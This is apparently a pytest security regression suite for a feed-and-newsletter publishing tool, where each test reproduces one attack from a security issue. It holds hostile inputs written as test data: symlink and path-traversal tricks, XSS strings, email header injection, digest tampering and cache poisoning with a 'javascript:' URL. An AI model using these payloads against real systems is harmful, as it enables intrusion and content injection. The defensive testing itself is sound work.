"""Attacks on the tool (issue 15), one test or more per hole: each reproduces the attack and
fails on the code before its fix. Test names carry the item number of the issue."""

from __future__ import annotations

import re
import shutil
from pathlib import Path
from typing import Any

import pytest
from click.testing import CliRunner
from release_files import write_release

from publisher import build
from publisher.cli import main
from publisher.project import open_project


@pytest.fixture
def outside(tmp_path: Path) -> Path:
    """A folder outside the project that a hostile pull request must never reach."""
    folder = tmp_path / "outside"
    folder.mkdir()
    (folder / "precious.txt").write_text("keep me\n", encoding="utf-8")
    return folder


def run(root: Path, *arguments: str) -> Any:
    return CliRunner().invoke(main, ["--project", str(root), *arguments])


def files_in(folder: Path) -> dict[str, bytes]:
    return {
        path.relative_to(folder).as_posix(): path.read_bytes()
        for path in sorted(folder.rglob("*"))
        if path.is_file()
    }


# --- item 2: build never follows a symlink out of its output folder ------------------------


def test_item2_build_refuses_to_write_through_a_symlinked_section_folder(
    root: Path, outside: Path
) -> None:
    (root / "feeds" / "sections").mkdir(parents=True)
    (root / "feeds" / "sections" / "topics").symlink_to(outside, target_is_directory=True)
    result = run(root, "build")
    assert result.exit_code == 1, result.output
    assert "symbolic link" in result.output
    assert "feeds/sections/topics" in result.output
    assert "Traceback" not in result.output
    assert files_in(outside) == {"precious.txt": b"keep me\n"}
    # nothing half-written: the refusal comes before any output
    assert not (root / "feeds" / "atom.xml").exists()
    assert not (root / "CHANGELOG.md").exists()


def test_item2_build_never_removes_files_through_a_symlink_listed_in_the_manifest(
    root: Path, outside: Path
) -> None:
    assert run(root, "build").exit_code == 0
    feeds = root / "feeds"
    (feeds / "mirror").symlink_to(outside, target_is_directory=True)
    manifest = feeds / build.MANIFEST_FILE
    manifest.write_text(
        manifest.read_text(encoding="utf-8") + "mirror/precious.txt\n", encoding="utf-8"
    )
    result = run(root, "build")
    assert (outside / "precious.txt").read_text(encoding="utf-8") == "keep me\n"
    assert result.exit_code == 1, result.output
    assert "feeds/mirror" in result.output
    assert "symbolic link" in result.output
    check = run(root, "build", "--check")
    assert check.exit_code == 1
    assert (outside / "precious.txt").exists()


def test_item2_a_symlinked_output_folder_is_refused(root: Path, outside: Path) -> None:
    (root / "feeds").symlink_to(outside, target_is_directory=True)
    result = run(root, "build")
    assert result.exit_code == 1, result.output
    assert "symbolic link" in result.output
    assert files_in(outside) == {"precious.txt": b"keep me\n"}


def test_item2_a_symlinked_output_file_is_refused_and_its_target_untouched(
    root: Path, outside: Path
) -> None:
    (root / "feeds").mkdir()
    (root / "feeds" / "atom.xml").symlink_to(outside / "precious.txt")
    result = run(root, "build")
    assert result.exit_code == 1, result.output
    assert "feeds/atom.xml" in result.output
    assert (outside / "precious.txt").read_text(encoding="utf-8") == "keep me\n"


@pytest.mark.parametrize(
    "line",
    ["../outside/precious.txt", "/etc/hostname", "a/../../x", "nul\0byte", "back\\slash"],
)
def test_item2_the_manifest_is_untrusted_input(root: Path, outside: Path, line: str) -> None:
    assert run(root, "build").exit_code == 0
    manifest = root / "feeds" / build.MANIFEST_FILE
    manifest.write_text(manifest.read_text(encoding="utf-8") + line + "\n", encoding="utf-8")
    paths = build.build_paths(open_project(root))
    listed = build.read_manifest(paths)
    feeds = (root / "feeds").resolve()
    assert all(path.resolve().is_relative_to(feeds) for path in listed)
    assert all("\0" not in str(path) for path in listed)
    result = run(root, "build")
    assert result.exit_code == 0, result.output
    assert (outside / "precious.txt").exists()


def test_item2_a_symlinked_manifest_is_not_read(root: Path, tmp_path: Path) -> None:
    assert run(root, "build").exit_code == 0
    secret = tmp_path / "secret.txt"
    secret.write_text("atom.xml\nrss.xml\n", encoding="utf-8")
    manifest = root / "feeds" / build.MANIFEST_FILE
    manifest.unlink()
    manifest.symlink_to(secret)
    paths = build.build_paths(open_project(root))
    assert build.read_manifest(paths) == ()
    result = run(root, "build")
    assert result.exit_code == 1, result.output
    assert build.MANIFEST_FILE in result.output
    assert secret.read_text(encoding="utf-8") == "atom.xml\nrss.xml\n"


def test_item2_feeds_command_refuses_a_symlinked_tag_folder(root: Path, outside: Path) -> None:
    (root / "feeds" / "tags").mkdir(parents=True)
    (root / "feeds" / "tags" / "ml").symlink_to(outside, target_is_directory=True)
    (root / "feeds" / "tags" / "gone").symlink_to(outside, target_is_directory=True)
    (outside / "atom.xml").write_text("victim\n", encoding="utf-8")
    result = run(root, "feeds")
    assert result.exit_code == 1, result.output
    assert "symbolic link" in result.output
    assert files_in(outside) == {"precious.txt": b"keep me\n", "atom.xml": b"victim\n"}
    assert not (root / "feeds" / "atom.xml").exists()


# --- item 3: data files that are symlinks out of the project; short excerpts ------------------

SHADOW = (
    "root:$6$Qx9SECRETHASHSECRETHASHSECRETHASH:19000:0:99999:7:::\n"
    "daemon:*:19000:0:99999:7:::\n"
    "a private sentence that must never reach a CI log in full, with its secret 0123456789:\n"
)


@pytest.mark.parametrize("target", ["releases/2024.04.yaml", "roadmap.yaml", "site.yaml"])
def test_item3_a_data_file_symlinked_out_of_the_project_is_refused_unread(
    root: Path, tmp_path: Path, target: str
) -> None:
    secret = tmp_path / "shadow"
    secret.write_text(SHADOW, encoding="utf-8")
    link = root / "data" / target
    link.unlink(missing_ok=True)
    link.symlink_to(secret)
    commands = [["validate"]] if target == "roadmap.yaml" else [["validate"], ["build"]]
    for command in commands:
        result = run(root, *command)
        assert result.exit_code == 1, result.output
        assert "Traceback" not in result.output
        assert f"data/{target}" in result.output
        assert "outside the project" in result.output
        assert "SECRETHASH" not in result.output
        assert "daemon" not in result.output
        assert "private sentence" not in result.output


def test_item3_a_data_file_symlinked_inside_the_project_is_read(root: Path) -> None:
    shutil.copy(root / "data" / "releases" / "2024.03.yaml", root / "data" / "kept.yaml")
    text = (root / "data" / "kept.yaml").read_text(encoding="utf-8")
    (root / "data" / "roadmap.yaml").symlink_to(root / "data" / "kept.yaml")
    (root / "data" / "kept.yaml").write_text(
        text.split("title:", 1)[0].split("release:")[0] + "title:" + text.split("\ntitle:", 1)[1],
        encoding="utf-8",
    )
    result = run(root, "validate")
    assert result.exit_code == 0, result.output


def test_item3_unknown_keys_are_echoed_only_as_a_short_excerpt(root: Path) -> None:
    (root / "data" / "roadmap.yaml").write_text(
        "title: T\nsections: []\n" + SHADOW + "".join(f"key{n}: 1\n" for n in range(30)),
        encoding="utf-8",
    )
    result = run(root, "validate")
    assert result.exit_code == 1
    assert "unknown key" in result.output
    assert "SECRETHASHSECRETHASH" not in result.output
    assert "0123456789" not in result.output
    assert "a private sentence" in result.output  # a short excerpt still says which key
    # a flood of unknown keys is summarised, not echoed line after line
    assert result.output.count("unknown key") <= 11
    assert "more unknown keys" in result.output


# --- item 5: RSS channel text is plain text once parsed -------------------------------------

HOSTILE = "Tips <img src=x onerror=alert(1)> & <b>tricks</b>"


def test_item5_rss_channel_descriptions_are_plain_text_for_feed_readers(root: Path) -> None:
    import feedparser
    import lxml.etree
    import lxml.html

    site = root / "data" / "site.yaml"
    site.write_text(
        site.read_text(encoding="utf-8")
        .replace("title: A Small Road Map", f"title: '{HOSTILE}'")
        .replace(
            "description: A fixture for the changelog's golden files.", f"description: '{HOSTILE}'"
        ),
        encoding="utf-8",
    )
    for release in (root / "data" / "releases").glob("*.yaml"):
        # A hostile pull request re-freezes what it edits (the digest is no secret).
        write_release(
            release,
            re.sub(
                r"- title: Topics.*", f"- title: '{HOSTILE}'", release.read_text(encoding="utf-8")
            ),
        )
    result = run(root, "build")
    assert result.exit_code == 0, result.output
    feeds = root / "feeds"
    checked = 0
    for path in (
        feeds / "rss.xml",
        feeds / "releases" / "rss.xml",
        feeds / "sections" / "topics" / "rss.xml",
    ):
        channel = lxml.etree.parse(str(path)).getroot().find("channel")
        assert channel is not None
        description = channel.findtext("description")
        assert description
        assert "Tips" in description
        # feed readers read <description> as HTML: it must hold no element, only the text
        fragment = lxml.html.fragment_fromstring(description, create_parent="div")
        assert len(fragment) == 0, (path, description)
        assert HOSTILE in fragment.text_content()
        parsed = feedparser.parse(path.read_bytes())
        assert "<img" not in parsed.feed.subtitle
        checked += 1
    assert checked == 3


# --- items 6, 7 and 11: site settings that reach email headers ----------------------------

STRONG_KEY = "k3Y-for-tests-0123456789abcdefghijklmnopqrstuvwxyzABCDEF"


def set_site(root: Path, **replacements: str) -> None:
    """Replace lines of the fixture's site.yaml: ``base_url="https://…"`` and the like."""
    site = root / "data" / "site.yaml"
    lines = site.read_text(encoding="utf-8").splitlines()
    for key, value in replacements.items():
        key = key.replace("from_", "from")
        lines = [
            line.split(":", 1)[0] + ": " + value if line.strip().startswith(f"{key}:") else line
            for line in lines
        ]
    site.write_text("\n".join(lines) + "\n", encoding="utf-8")


def send_one(root: Path, address: str = "reader@example.net") -> Any:
    """`publisher send 2024.02` to one subscriber through a real SMTP server on 127.0.0.1;
    returns (the CLI result, the messages the server received)."""
    from smtp_server import SmtpServer

    subscribers = root / "subscribers.csv"
    subscribers.write_text(f"email,name,sections\n{address},Reader,\n", encoding="utf-8")
    with SmtpServer() as server:
        result = CliRunner().invoke(
            main,
            ["--project", str(root), "send", "2024.02", "--subscribers", str(subscribers)],
            env={
                "PUBLISHER_SMTP_URL": server.url(),
                "PUBLISHER_UNSUBSCRIBE_KEY": STRONG_KEY,
                "PUBLISHER_SECRET_KEY": STRONG_KEY,
            },
            input="y\n",
        )
        received = list(server.mailbox.received)
    return result, received


def eml_preview(root: Path, tmp_path: Path) -> Any:
    import email
    import email.policy

    folder = tmp_path / "preview"
    result = CliRunner().invoke(
        main,
        ["--project", str(root), "email", "2024.02", "--format", "eml", "-o", str(folder)],
        env={"PUBLISHER_UNSUBSCRIBE_KEY": STRONG_KEY, "PUBLISHER_SECRET_KEY": STRONG_KEY},
    )
    assert result.exit_code == 0, result.output
    data = (folder / "2024.02.eml").read_bytes()
    return data, email.message_from_bytes(data, policy=email.policy.default)


def test_item6_international_site_settings_are_sent_as_ascii_headers(
    root: Path, tmp_path: Path
) -> None:
    set_site(
        root,
        base_url="https://exämple.org/roadmap/",
        unsubscribe_url="https://exämple.org/désabonner?token={token}",
        from_="Straße Road Map <news@exämple.org>",
        reply_to="antwort@bücher.example",
    )
    assert run(root, "validate").exit_code == 0
    result, received = send_one(root)
    assert result.exit_code == 0, result.output
    assert "Traceback" not in result.output
    assert len(received) == 1
    data = received[0].data
    head = data.split(b"\r\n\r\n", 1)[0].split(b"\n\n", 1)[0]
    assert head.isascii()
    message = received[0].message
    assert message["Message-ID"].endswith("@xn--exmple-cua.org>")
    assert message["From"].addresses[0].addr_spec == "news@xn--exmple-cua.org"
    assert message["From"].addresses[0].display_name == "Straße Road Map"
    assert message["Reply-To"].addresses[0].addr_spec == "antwort@xn--bcher-kva.example"
    unsubscribe = str(message["List-Unsubscribe"]).strip()
    assert unsubscribe.startswith("<https://xn--exmple-cua.org/d%C3%A9sabonner?token=")
    preview, _ = eml_preview(root, tmp_path)
    assert preview.split(b"\r\n\r\n", 1)[0].split(b"\n\n", 1)[0].isascii()


@pytest.mark.parametrize(
    ("key", "value", "message"),
    [
        ("from_", "Road Map <nöreply@example.org>", "email.from"),
        ("reply_to", "nöreply@example.org", "email.reply_to"),
        ("reply_to", "not an address", "email.reply_to"),
        ("from_", "Road Map <news@exa..mple.org>", "email.from"),
        ("base_url", f"https://{'a' * 64}.example/", "base_url"),
    ],
)
def test_item6_settings_that_cannot_reach_a_header_fail_validate(
    root: Path, key: str, value: str, message: str
) -> None:
    set_site(root, **{key: value})
    result = run(root, "validate")
    assert result.exit_code == 1, result.output
    assert f"data/site.yaml: {message}:" in result.output
    assert "Traceback" not in result.output


def test_item7_a_colon_in_the_from_display_name_stays_one_address(
    root: Path, tmp_path: Path
) -> None:
    set_site(root, from_="'ML Road Map: Weekly <news@small.example.org>'")
    result, received = send_one(root)
    assert result.exit_code == 0, result.output
    for message in (received[0].message, eml_preview(root, tmp_path)[1]):
        header = message["From"]
        assert len(header.groups) == 1
        assert header.groups[0].display_name is None  # not an RFC 5322 group
        (address,) = header.addresses
        assert address.display_name == "ML Road Map: Weekly"
        assert address.addr_spec == "news@small.example.org"


@pytest.mark.parametrize(
    ("key", "value"),
    [
        ("unsubscribe_url", "'https://small.example.org/u?token={token}>,<https://evil.example/x'"),
        ("unsubscribe_url", "'https://small.example.org/u?t={token}\"x'"),
        ("list_id", "'small>example.org'"),
        ("list_id", "'small example.org'"),
        ("list_id", "'<small.example.org'"),
        ("list_id", "nodot"),
    ],
)
def test_item11_list_header_settings_must_be_urls_and_dot_atoms(
    root: Path, key: str, value: str
) -> None:
    set_site(root, **{key: value})
    result = run(root, "validate")
    assert result.exit_code == 1, result.output
    assert f"data/site.yaml: email.{key}:" in result.output
    sent, received = send_one(root)
    assert sent.exit_code == 1
    assert received == []


def test_item11_list_headers_carry_exactly_one_url_each(root: Path) -> None:
    set_site(root, unsubscribe_url="'https://small.example.org/u,v?token={token}'")
    result, received = send_one(root)
    assert result.exit_code == 0, result.output
    unsubscribe = str(received[0].message["List-Unsubscribe"])
    urls = [part.strip() for part in unsubscribe.split(",")]
    assert len(urls) == 2  # the https URL (its comma escaped) and the list's mailto
    assert urls[0].startswith("<https://small.example.org/u%2Cv?token=")
    assert urls[1].startswith("<mailto:")


# --- item 10: keys of at least 32 bytes of entropy, never an empty one ----------------------


@pytest.mark.parametrize(
    "weak",
    [
        "zq7",
        "unsubscribe-key-for-tests",
        "a" * 80,
        "abababababababababababababababababababababababababababababababab",
        "0123456789abcdef0123456789abcdef",  # 16 bytes in hex
        "password-password-password-password-password",
    ],
)
def test_item10_a_weak_key_is_refused_by_send_and_email(root: Path, weak: str) -> None:
    from smtp_server import SmtpServer

    subscribers = root / "subscribers.csv"
    subscribers.write_text("email,name,sections\nreader@example.net,,\n", encoding="utf-8")
    with SmtpServer() as server:
        sent = CliRunner().invoke(
            main,
            ["--project", str(root), "send", "2024.02", "--yes", "--subscribers", str(subscribers)],
            env={"PUBLISHER_SMTP_URL": server.url(), "PUBLISHER_UNSUBSCRIBE_KEY": weak},
        )
        assert server.mailbox.received == []
    assert sent.exit_code == 1, sent.output
    assert "PUBLISHER_UNSUBSCRIBE_KEY" in sent.output
    assert "secrets.token_urlsafe(32)" in sent.output  # says how to make one
    assert weak not in sent.output  # never printed
    previewed = CliRunner().invoke(
        main,
        ["--project", str(root), "email", "2024.02", "-o", str(root / "out")],
        env={"PUBLISHER_UNSUBSCRIBE_KEY": weak},
    )
    assert previewed.exit_code == 1, previewed.output
    assert weak not in previewed.output


@pytest.mark.parametrize("make", ["token_urlsafe", "token_hex", "token_hex_upper"])
def test_item10_keys_made_as_the_message_says_are_accepted(make: str) -> None:
    import secrets

    from publisher import keys

    key = {
        "token_urlsafe": secrets.token_urlsafe(32),
        "token_hex": secrets.token_hex(32),
        "token_hex_upper": secrets.token_hex(32).upper(),
    }[make]
    assert keys.key_problem(key) == ""
    assert keys.key_problem(key[: len(key) * 3 // 4]) != ""  # fewer than 32 bytes


def test_item10_an_unset_key_gives_previews_a_placeholder_token_never_an_empty_key(
    root: Path,
) -> None:
    from publisher.subscribers import unsubscribe_token

    out = root / "out"
    result = CliRunner().invoke(
        main,
        ["--project", str(root), "email", "2024.02", "-o", str(out), "--to", "r@example.net"],
        env={"PUBLISHER_UNSUBSCRIBE_KEY": "", "PUBLISHER_SECRET_KEY": ""},
    )
    assert result.exit_code == 0, result.output
    text = (out / "2024.02.txt").read_text(encoding="utf-8")
    eml = (out / "2024.02.eml").read_text(encoding="utf-8")
    empty_keyed = unsubscribe_token(b"\0", "r@example.net")  # any key: the code must not run
    assert empty_keyed not in text
    assert "preview-token" in text
    assert "preview-token" in eml
    assert "placeholder" in result.output
    with pytest.raises(ValueError, match="empty"):
        unsubscribe_token(b"", "r@example.net")


def test_item10_a_strong_key_keys_the_preview_as_send_does(root: Path) -> None:
    from publisher.subscribers import unsubscribe_token

    out = root / "out"
    result = CliRunner().invoke(
        main,
        ["--project", str(root), "email", "2024.02", "-o", str(out), "--to", "r@example.net"],
        env={"PUBLISHER_SECRET_KEY": STRONG_KEY},
    )
    assert result.exit_code == 0, result.output
    token = unsubscribe_token(STRONG_KEY.encode(), "r@example.net")
    assert token in (out / "2024.02.txt").read_text(encoding="utf-8")


def test_item10_the_two_key_variables_must_agree(root: Path) -> None:
    from publisher import keys

    assert keys.secret_key({"PUBLISHER_UNSUBSCRIBE_KEY": STRONG_KEY}) == STRONG_KEY.encode()
    assert keys.secret_key({"PUBLISHER_SECRET_KEY": STRONG_KEY}) == STRONG_KEY.encode()
    assert keys.secret_key({}, required=False) is None
    with pytest.raises(keys.PublisherError, match="PUBLISHER_SECRET_KEY is not set"):
        keys.secret_key({})
    other = STRONG_KEY[::-1]
    with pytest.raises(keys.PublisherError, match="differ") as caught:
        keys.secret_key({"PUBLISHER_SECRET_KEY": STRONG_KEY, "PUBLISHER_UNSUBSCRIBE_KEY": other})
    assert STRONG_KEY not in str(caught.value)
    assert other not in str(caught.value)
    assert "to change keys, list the old one in PUBLISHER_PREVIOUS_SECRET_KEYS" in str(caught.value)
    same = {"PUBLISHER_SECRET_KEY": STRONG_KEY, "PUBLISHER_UNSUBSCRIBE_KEY": STRONG_KEY}
    assert keys.secret_key(same) == STRONG_KEY.encode()


def test_item10_previous_keys_verify_after_the_current_one_and_must_be_strong(root: Path) -> None:
    from publisher import keys

    older, old = STRONG_KEY[::-1], STRONG_KEY.swapcase()
    environment = {
        "PUBLISHER_SECRET_KEY": STRONG_KEY,
        "PUBLISHER_PREVIOUS_SECRET_KEYS": f" {old},{older}\n{old} ",
    }
    # The current key first (it signs), then the earlier ones, each once.
    assert keys.verification_keys(environment) == (
        STRONG_KEY.encode(),
        old.encode(),
        older.encode(),
    )
    assert keys.verification_keys({"PUBLISHER_SECRET_KEY": STRONG_KEY}) == (STRONG_KEY.encode(),)
    with pytest.raises(keys.PublisherError, match="PUBLISHER_SECRET_KEY is not set"):
        keys.verification_keys({"PUBLISHER_PREVIOUS_SECRET_KEYS": old})
    weak = {**environment, "PUBLISHER_PREVIOUS_SECRET_KEYS": f"{old} password123"}
    with pytest.raises(keys.PublisherError) as caught:
        keys.verification_keys(weak)
    assert str(caught.value).startswith("PUBLISHER_PREVIOUS_SECRET_KEYS (key 2 of 2) is too weak")
    assert "password123" not in str(caught.value)
    # serve refuses to start with it: one line, exit 1, the key never printed.
    result = CliRunner().invoke(main, ["--project", str(root), "serve", "--port", "0"], env=weak)
    assert result.exit_code == 1
    assert result.output.startswith(
        "error: PUBLISHER_PREVIOUS_SECRET_KEYS (key 2 of 2) is too weak"
    )
    assert "password123" not in result.output
    assert "Traceback" not in result.output


# --- item 8: section ids that would share an output folder ---------------------------------


@pytest.mark.parametrize(
    ("first", "second", "folder"),
    [("a..b", "a-b", "a-b"), ("données", "donnees", "donnees"), ("Courses", "courses", "courses")],
)
def test_item8_section_ids_sharing_a_feed_folder_are_refused(
    root: Path, first: str, second: str, folder: str
) -> None:
    write_release(
        root / "data" / "releases" / "2024.04.yaml",
        'release:\n  version: "2024.04"\n  date: 2024-04-01\ntitle: T\nsections:\n'
        f"  - title: One\n    id: '{first}'\n    resources:\n"
        "      - title: R1\n        url: https://one.example.org/\n"
        f"  - title: Two\n    id: '{second}'\n    resources:\n"
        "      - title: R2\n        url: https://two.example.org/\n",
    )
    for command in ("validate", "build"):
        result = run(root, command)
        assert result.exit_code == 1, result.output
        assert "data/releases/2024.04.yaml" in result.output
        assert repr(first) in result.output
        assert repr(second) in result.output
        assert f"sections/{folder}/" in result.output
    assert not (root / "feeds").exists()


# --- absurd inputs are refused with a clear message ---------------------------------------


def write_working_copy(root: Path, text: str | bytes) -> Path:
    path = root / "data" / "roadmap.yaml"
    if isinstance(text, str):
        path.write_text(text, encoding="utf-8")
    else:
        path.write_bytes(text)
    return path


def test_item9_a_resource_with_a_thousand_tags_is_refused(root: Path) -> None:
    tags = ", ".join(f"tag{number}" for number in range(1000))
    write_working_copy(
        root,
        "title: T\nsections:\n  - title: S\n    resources:\n"
        f"      - title: R\n        url: https://r.example.org/\n        tags: [{tags}]\n",
    )
    result = run(root, "validate")
    assert result.exit_code == 1, result.output
    assert "data/roadmap.yaml: sections[0].resources[0].tags: 1000 tags" in result.output
    assert "at most" in result.output


def test_item9_sections_nested_250_deep_are_refused_before_any_later_stage_recurses(
    root: Path,
) -> None:
    lines = ["title: T", "sections:"]
    for depth in range(250):
        indent = "  " * (2 * depth)
        lines.append(f"{indent}  - title: S{depth}")
        lines.append(f"{indent}    sections:")
    lines.append("  " * 500 + "    []")
    write_working_copy(root, "\n".join(lines) + "\n")
    result = run(root, "validate")
    assert result.exit_code == 1, result.output
    assert "nested" in result.output
    assert "Traceback" not in result.output
    readme = run(root, "readme", "-o", "-")
    assert readme.exit_code == 1
    assert "RecursionError" not in readme.output


def test_item9_a_huge_data_file_is_refused_before_it_is_parsed(root: Path) -> None:
    filler = b"# " + b"x" * 1000 + b"\n"
    write_working_copy(root, b"title: T\nsections: []\n" + filler * (17 * 1024))
    result = run(root, "validate")
    assert result.exit_code == 1, result.output
    assert "data/roadmap.yaml" in result.output
    assert "MB" in result.output


def test_item9_an_absurdly_long_line_is_refused(root: Path) -> None:
    write_working_copy(root, "title: T\nintro: " + "y" * 300_000 + "\nsections: []\n")
    result = run(root, "validate")
    assert result.exit_code == 1, result.output
    assert "data/roadmap.yaml:2:" in result.output
    assert "line" in result.output


# --- item 4: frozen releases are verifiable -------------------------------------------------


def released(root: Path) -> Path:
    """A release 2024.04 frozen by `publisher release` from a working copy with 3 resources."""
    write_working_copy(
        root,
        "title: A Small Road Map\nsections:\n  - title: Courses\n    resources:\n"
        + "".join(
            f"      - title: Course {n}\n        url: https://c{n}.example.org/\n" for n in range(3)
        ),
    )
    result = run(root, "release", "2024.04", "--date", "2024-04-01", "--allow-empty")
    assert result.exit_code == 0, result.output
    return root / "data" / "releases" / "2024.04.yaml"


def test_item4_release_records_a_digest_of_the_frozen_content(root: Path) -> None:
    path = released(root)
    text = path.read_text(encoding="utf-8")
    assert re.search(r'^  digest: "sha256:[0-9a-f]{64}"$', text, re.MULTILINE)
    assert run(root, "validate").exit_code == 0


@pytest.mark.parametrize("damage", ["cut in half", "edited"])
def test_item4_a_damaged_release_is_refused_with_how_to_refreeze(root: Path, damage: str) -> None:
    path = released(root)
    data = path.read_bytes()
    if damage == "cut in half":
        cut = data.rindex(b"      - title: Course 2")  # still valid YAML: one resource fewer
        path.write_bytes(data[:cut])
    else:
        path.write_bytes(data.replace(b"https://c1.example.org/", b"https://evil.example/"))
    for command in ("validate", "build"):
        result = run(root, command)
        assert result.exit_code == 1, result.output
        assert "data/releases/2024.04.yaml: release.digest:" in result.output
        assert "publisher release 2024.04 --refreeze" in result.output
    assert not (root / "feeds").exists()
    refrozen = run(root, "release", "2024.04", "--refreeze")
    assert refrozen.exit_code == 0, refrozen.output
    assert run(root, "validate").exit_code == 0


def test_item4_refreeze_refuses_a_release_that_does_not_load(root: Path) -> None:
    path = released(root)
    path.write_bytes(path.read_bytes() + b"  bad: [\n")
    result = run(root, "release", "2024.04", "--refreeze")
    assert result.exit_code == 1
    assert "data/releases/2024.04.yaml" in result.output


def test_item4_a_release_without_a_digest_is_read_and_refreeze_records_one(root: Path) -> None:
    # design.md's data format has no digest: a release written by hand in that format (or
    # frozen before releases carried one) must keep working, unverified, until --refreeze.
    path = released(root)
    data = re.sub(rb'^  digest: "sha256:[0-9a-f]{64}"\n', b"", path.read_bytes(), flags=re.M)
    assert b"digest:" not in data
    path.write_bytes(data)
    for command in ("validate", "build"):
        result = run(root, command)
        assert result.exit_code == 0, result.output
        assert "release.digest" not in result.output
    assert run(root, "release", "2024.04", "--refreeze").exit_code == 0
    refrozen = path.read_bytes()
    assert re.search(rb'^  digest: "sha256:[0-9a-f]{64}"$', refrozen, flags=re.M)
    # Once recorded, the digest is checked again: the same file cut short is refused.
    path.write_bytes(refrozen[: refrozen.rindex(b"      - title: Course 2")])
    result = run(root, "validate")
    assert result.exit_code == 1
    assert "data/releases/2024.04.yaml: release.digest" in result.output


def test_item4_import_history_writes_releases_with_their_digest(tmp_path: Path) -> None:
    import subprocess

    repo = tmp_path / "repo"
    repo.mkdir()

    def git(*arguments: str, date: str) -> None:
        environment = {
            "GIT_AUTHOR_DATE": date,
            "GIT_COMMITTER_DATE": date,
            "GIT_CONFIG_NOSYSTEM": "1",
            "HOME": str(tmp_path),
            "PATH": "/usr/bin:/bin",
        }
        subprocess.run(
            ["git", *arguments], cwd=repo, env=environment, check=True, capture_output=True
        )

    git("init", "-q", "-b", "main", date="2024-01-01T09:00:00Z")
    git("config", "user.name", "Curator", date="2024-01-01T09:00:00Z")
    git("config", "user.email", "curator@example.org", date="2024-01-01T09:00:00Z")
    for day, titles in (("2024-01-05", "AB"), ("2024-01-09", "ABC")):
        bullets = "".join(f"- [{title}](https://example.org/{title})\n" for title in titles)
        (repo / "README.md").write_text(f"# Road Map\n\n## Courses\n\n{bullets}", "utf-8")
        git("add", "README.md", date=f"{day}T09:00:00Z")
        git("commit", "-q", "-m", f"Add {titles[-1]}", date=f"{day}T09:00:00Z")
    project = tmp_path / "project"
    assert run(tmp_path, "init", str(project)).exit_code == 0
    shutil.rmtree(project / "data" / "releases", ignore_errors=True)
    result = run(project, "import-history", str(repo), "--file", "README.md")
    assert result.exit_code == 0, result.output
    written = sorted((project / "data" / "releases").glob("*.yaml"))
    assert [path.name for path in written] == ["2024.01.05.yaml", "2024.01.09.yaml"]
    for path in written:
        assert re.search(rb'^  digest: "sha256:[0-9a-f]{64}"$', path.read_bytes(), re.M)
    assert run(project, "validate").exit_code == 0, run(project, "validate").output
    written[0].write_bytes(written[0].read_bytes().replace(b"example.org/A", b"evil.example/A"))
    result = run(project, "validate")
    assert result.exit_code == 1
    assert "data/releases/2024.01.05.yaml: release.digest:" in result.output


# --- item 12: temporaries left by a killed build --------------------------------------------


def test_item12_a_killed_build_leaves_no_temporaries_for_good(root: Path) -> None:
    import os
    import signal
    import subprocess
    import sys

    assert run(root, "build").exit_code == 0
    feeds = root / "feeds"
    # A build killed between staging and renaming: what write_files leaves behind.
    leftovers = [
        feeds / ".atom.xml.k2x_9qz1.tmp",
        feeds / "releases" / ".2024.02.html.a8b7c6d5.tmp",
        root / ".CHANGELOG.md.zz11yy22.tmp",
    ]
    for path in leftovers:
        path.write_bytes(b"half")
    mine = feeds / ".notes.tmp"  # not our naming: never touched
    mine.write_bytes(b"someone's")
    check = run(root, "build", "--check")
    assert check.exit_code == 1, check.output
    for path in leftovers:
        assert f"{path.relative_to(root)}: stale" in check.output
    result = run(root, "build")
    assert result.exit_code == 0, result.output
    assert not any(path.exists() for path in leftovers)
    assert mine.read_bytes() == b"someone's"
    assert run(root, "build", "--check").exit_code == 0
    # and for real: a build process killed with SIGKILL while it writes
    (root / "data" / "site.yaml").write_text(
        (root / "data" / "site.yaml").read_text(encoding="utf-8").replace("Small", "Tiny"),
        encoding="utf-8",
    )
    process = subprocess.Popen(
        [sys.executable, "-m", "publisher", "--project", str(root), "build", "--no-cache"],
        stdout=subprocess.DEVNULL,
        stderr=subprocess.DEVNULL,
    )
    os.kill(process.pid, signal.SIGKILL)
    process.wait()
    assert run(root, "build").exit_code == 0
    assert not [path for path in root.rglob("*.tmp") if path != mine]


# --- item 13: operating-system errors are clear errors, and the cache is optional ----------


def test_item13_a_300_character_version_is_a_clear_error(root: Path) -> None:
    write_working_copy(root, "title: T\nsections: []\n")
    result = run(root, "release", "v" * 300, "--date", "2024-05-01")
    assert result.exit_code == 1, result.output
    assert "Traceback" not in result.output
    assert "at most 64 characters" in result.output
    assert not list((root / "data" / "releases").glob("v*"))


@pytest.mark.parametrize(
    "damage", ["cache is a file", "state file is a folder", "state folder is a file"]
)
def test_item13_a_broken_cache_folder_is_set_aside_and_rebuilt(root: Path, damage: str) -> None:
    state = root / ".publisher"
    if damage == "cache is a file":
        state.mkdir()
        (state / "cache").write_text("not a folder\n", encoding="utf-8")
    elif damage == "state file is a folder":
        (state / "cache" / build.STATE_FILE).mkdir(parents=True)
    else:
        state.write_text("not a folder\n", encoding="utf-8")
    result = run(root, "build")
    assert result.exit_code == 0, result.output
    assert (root / "feeds" / "atom.xml").is_file()
    assert (state / "cache" / build.STATE_FILE).is_file()  # the cache works again
    again = run(root, "build")
    assert again.exit_code == 0
    assert "up to date" in again.output


def test_item13_a_file_where_an_output_folder_is_expected_is_a_clear_error(root: Path) -> None:
    (root / "feeds").mkdir()
    (root / "feeds" / "releases").write_text("a file\n", encoding="utf-8")
    result = run(root, "build")
    assert result.exit_code == 1, result.output
    assert "Traceback" not in result.output
    assert "feeds/releases" in result.output
    assert not (root / "CHANGELOG.md").exists()


# --- item 14: the cache cannot smuggle in what validation refuses ---------------------------


def test_item14_a_crafted_cache_entry_with_an_unkeyed_checksum_is_ignored(root: Path) -> None:
    import hashlib

    assert run(root, "build").exit_code == 0
    cache_dir = root / ".publisher" / "cache"
    good, evil = b"https://course.fast.ai/", b"javascript:alert(1)////"
    assert len(good) == len(evil)  # same length: the marshal data stays well formed
    crafted = 0
    for path in cache_dir.rglob("*.bin"):
        data = path.read_bytes()
        header_end = data.index(b"\n") + 1
        header, payload = data[:header_end], data[header_end + 32 :]
        if good not in payload:
            continue
        payload = payload.replace(good, evil)
        # what anyone can compute: the payload's plain sha256
        path.write_bytes(header + hashlib.sha256(payload).digest() + payload)
        crafted += 1
    assert crafted
    shutil.rmtree(root / "feeds")
    (root / "CHANGELOG.md").unlink()
    (cache_dir / build.STATE_FILE).unlink()
    result = run(root, "build")
    assert result.exit_code == 0, result.output
    published = b"".join(files_in(root / "feeds").values()) + (root / "CHANGELOG.md").read_bytes()
    assert b"javascript:" not in published
    assert good in published


# --- templates: a project's templates/ run sandboxed ---------------------------------------


